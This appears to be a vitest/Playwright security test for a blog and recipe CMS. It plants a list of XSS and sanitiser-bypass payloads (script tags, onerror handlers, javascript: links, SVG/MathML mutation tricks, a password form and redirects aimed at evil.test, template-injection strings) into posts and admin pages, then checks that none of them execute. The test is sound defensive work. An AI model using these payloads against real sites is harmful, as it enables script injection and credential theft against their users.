import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { testBrowser } from '../support/browser.ts';
import { COLLECTION, POST, POST_FILE, postFile, RECIPE } from './support/planted.ts';
import { type Ask, asking, askingAsAdmin } from './support/requests.ts';
import { sharedTarget, type Target } from './support/target.ts';
import { dangersIn, openWatched } from './support/watched-page.ts';

/** HTML that must not survive in a body. */
const EVIL = [
  '<script>alert("script")</script>',
  '<img src=x onerror=alert("img")>',
  '<svg/onload=alert("svg")>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<svg><animate onbegin=alert("animate") attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<xmp><script>alert("xmp")</script></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe srcdoc="<script>parent.alert(\'frame\')</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<meta http-equiv=refresh content="0;url=https://evil.test/">',
  '<base href=//evil.test>',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src=//evil.test/x.swf>',
  '<form action=//evil.test><input name=password><button formaction="javascript:alert(1)">Go</button></form>',
  '<a href="java&#10;script:alert(1)">a</a>',
  '<a href="javascript:alert(1)">b</a>',
  '<a href="&#106;avascript:alert(1)">c</a>',
  '<a href=" &#1;javascript:alert(1)">d</a>',
  '<a href="data:text/html,<script>alert(1)</script>">e</a>',
  '<a href="vbscript:x">f</a><a href="//evil.test/">g</a>',
  '<p style="background:url(//evil.test/x.png)">h</p>',
  '<style>@import "//evil.test/x.css"; body { display: none }</style>',
  '<p onclick=alert(1) onmouseover=alert(2)>i</p>',
  '<img src="//evil.test/x.png"><img src="http://evil.test/x.png"><img srcset="//evil.test/x.png 1x" src="/uploads/x.svgz">',
  '<video src=//evil.test/x.mp4 onerror=alert(1)></video><audio src=//evil.test/x.mp3>',
  '<template><script>alert(1)</script></template>',
  '<details open ontoggle=alert("details")><summary>j</summary></details>',
  '<p is="x-y" slot="x" contenteditable autofocus tabindex=1 onfocus=alert(1)>k</p>',
];
const BODY = EVIL.join('\n');
/** Markdown has additional syntax for links and images. */
const MARKDOWN = `${BODY}\n\n[a](javascript:alert(1)) [b](<java\nscript:alert(1)>) [c](data:text/html,x) ![d](javascript:alert(1)) ![e](//evil.test/x.png) <javascript:alert(1)>\n\n[f]\n\n[f]: javascript:alert(1) "x"\n`;

const TAG = '"><script>alert(1)</script>';
const TEXT = `"><script>alert(1)</script>{{7*7}}\${7*7}<%= 7*7 %></title></textarea><!--</script><script>alert(2)</script>`;
const SHORT = '\'"><img src=x onerror=alert(3)>';

let target: Target;
let admin: Ask;
const browser = testBrowser();
beforeAll(async () => {
  target = sharedTarget();
  admin = await askingAsAdmin(target);
  const post = {
    title: TEXT,
    excerpt: TEXT,
    author: SHORT,
    tags: [TAG],
    metaTitle: TEXT,
    metaDescription: TEXT,
    featuredImageAlt: TEXT,
    status: 'published',
  };
  const saves: [string, object][] = [
    ['/api/blog/posts', { ...POST, ...post, slug: 'evil-html', content: BODY }],
    ['/api/blog/posts', { ...POST_FILE.data, ...post, slug: 'evil-markdown', markdown: MARKDOWN }],
    ['/api/content/post', { slug: 'evil-content', data: { ...POST_FILE.data, ...post, format: 'html' }, body: BODY }],
    [
      '/api/kitchen/recipes',
      {
        ...RECIPE,
        title: TEXT,
        description: TEXT,
        author: SHORT,
        tags: [TAG],
        notes: BODY.slice(0, 4_900),
        featuredImageAlt: TEXT,
        slug: 'evil-recipe',
        status: 'published',
        ingredients: [{ ingredient: TEXT, amount: SHORT, unit: TAG, notes: TEXT, group: SHORT }],
        instructions: [{ instruction: TEXT, notes: TEXT }],
        nutritionInfo: { calories: 1, protein: SHORT },
      },
    ],
    [
      '/api/kitchen/collections',
      {
        ...COLLECTION,
        title: TEXT,
        description: TEXT,
        author: SHORT,
        tags: [TAG],
        recipeIds: ['evil-recipe'],
        slug: 'evil-collection',
        status: 'published',
      },
    ],
  ];
  for (const [place, json] of saves) {
    const answer = await admin(place, { json });
    expect([place, answer.status, answer.status === 201 ? '' : await answer.text()]).toEqual([place, 201, '']);
  }
  await target.commit({
    'content/posts/evil-by-hand.md': postFile({ ...POST_FILE.data, ...post, format: 'html' }, BODY),
    'content/posts/evil-by-hand-markdown.md': postFile({ ...POST_FILE.data, ...post }, MARKDOWN),
  });
  await target.live();
});
afterAll(async () => {
  // Cleans up for the other files.
  for (const slug of ['evil-html', 'evil-markdown', 'evil-content', 'evil-by-hand', 'evil-by-hand-markdown'])
    await admin(`/api/blog/posts/${slug}`, { method: 'DELETE' });
  await admin('/api/kitchen/collections/evil-collection', { method: 'DELETE' });
  await admin('/api/kitchen/recipes/evil-recipe', { method: 'DELETE' });
  await target.live();
});

const POSTS = ['evil-html', 'evil-markdown', 'evil-content', 'evil-by-hand', 'evil-by-hand-markdown'];
const PAGES = [
  ...POSTS.map((slug) => `/blog/${slug}`),
  '/kitchen/evil-recipe',
  '/kitchen/collections/evil-collection',
  '/blog',
  '/kitchen',
  '/kitchen/collections',
  '/',
];

test.for(POSTS)('#35 #36 #41 nothing in the body of %s is executed', async (slug) => {
  const { page } = await openWatched(browser, target.address);
  const { content } = (await (await asking(target)(`/api/blog/posts/${slug}`)).json()) as { content: string };
  expect(await dangersIn(page, content)).toEqual([]);
  await page.context().close();
});

test('#35 what was removed on saving is not in the repository either', async () => {
  expect(await target.git('show', 'HEAD:content/posts/evil-html.md')).not.toMatch(/<svg|onerror=alert\("img|javascript:|srcdoc/);
});

describe('#37 text', () => {
  test.for(PAGES)('is not executed on %s', async (place) => {
    const { page, misdeeds } = await openWatched(browser, target.address);
    expect(await dangersIn(page, await (await asking(target)(place)).text())).toEqual([]);
    await page.goto(target.address + place);
    // The page loads scripts when idle.
    await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)));
    expect(await dangersIn(page, await page.content())).toEqual([]);
    await page.context().close();
    expect(misdeeds).toEqual([]);
  });

  test('is shown unchanged', async () => {
    const { page } = await openWatched(browser, target.address);
    for (const place of ['/blog/evil-html', '/kitchen/evil-recipe', '/kitchen/collections/evil-collection']) {
      await page.goto(target.address + place);
      // A number and what it counts stay on one line, here 7 %.
      await expect.poll(async () => (await page.locator('h1').first().textContent())?.replaceAll('\u00a0', ' ')).toContain(TEXT);
      await expect.poll(() => page.locator('main').textContent()).toContain(SHORT);
      await expect.poll(() => page.title()).toContain('{{7*7}}');
    }
    await page.context().close();
    for (const feed of ['/blog/rss.xml', '/blog/feed.json', '/kitchen/rss.xml', '/sitemap.xml']) {
      const text = await (await asking(target)(feed)).text();
      expect(text.includes('<script>alert(1)') && feed.endsWith('.xml') && !text.includes('<![CDATA['), feed).toBe(false);
    }
  });
});

test.for(PAGES)('#38 the structured data of %s preserves text and cannot break out of its script', async (place) => {
  const html = await (await asking(target)(place)).text();
  const blocks = [...html.matchAll(/<script type="application\/ld\+json"[^>]*>(.*?)<\/script>/gs)].map(([, text = '']) => text);
  expect(blocks.length).toBeGreaterThan(0);
  const parsed = blocks.map((text) => JSON.stringify(JSON.parse(text)));
  if (/evil/.test(place)) expect(parsed.join('')).toContain(JSON.stringify(TEXT).slice(1, -1));
  for (const text of blocks) expect(text).not.toMatch(/<\/|<!--|<script/i);
});

describe('#42 in the admin', () => {
  test.for([
    '/admin/blog',
    '/admin/blog?edit=evil-html',
    '/admin/blog?edit=evil-by-hand',
    '/admin/kitchen',
    '/admin/kitchen?recipe=evil-recipe',
    '/admin/kitchen?edit=evil-recipe',
    '/admin/kitchen?tab=collections',
    '/admin/drafts',
    '/admin/trash',
    '/admin/photos',
    '/admin/settings',
    '/admin/cms#/collections/post',
    '/admin/cms#/collections/post/entries/evil-by-hand',
    '/admin/cms#/collections/recipe/entries/evil-recipe',
  ])('%s executes nothing', async (place) => {
    const { page, misdeeds } = await openWatched(browser, target.address, true);
    await page.goto(target.address + place);
    await page.waitForLoadState('networkidle');
    await page.locator(':is(h1, h2, label):visible').first().waitFor();
    await page.context().close();
    expect(misdeeds).toEqual([]);
  });

  test('the list shows the text, and a preview executes nothing', async () => {
    const { page, misdeeds } = await openWatched(browser, target.address, true);
    await page.goto(`${target.address}/admin/blog`);
    await page.getByText('alert(1)').first().waitFor();
    expect(misdeeds).toEqual([]);
    const preview = await admin('/api/admin/preview', {
      body: new URLSearchParams({ entry: JSON.stringify({ ...POST, kind: 'post', title: TEXT, content: BODY, slug: 'previewed' }) }),
    });
    expect(preview.status).toBe(200);
    expect(preview.headers.get('content-security-policy')).toMatch(/^sandbox/);
    expect(preview.headers.get('cache-control')).toContain('no-store');
    expect(preview.headers.get('x-robots-tag')).toContain('noindex');
    expect(await dangersIn(page, await preview.text())).toEqual([]);
    await page.context().close();
  });
});
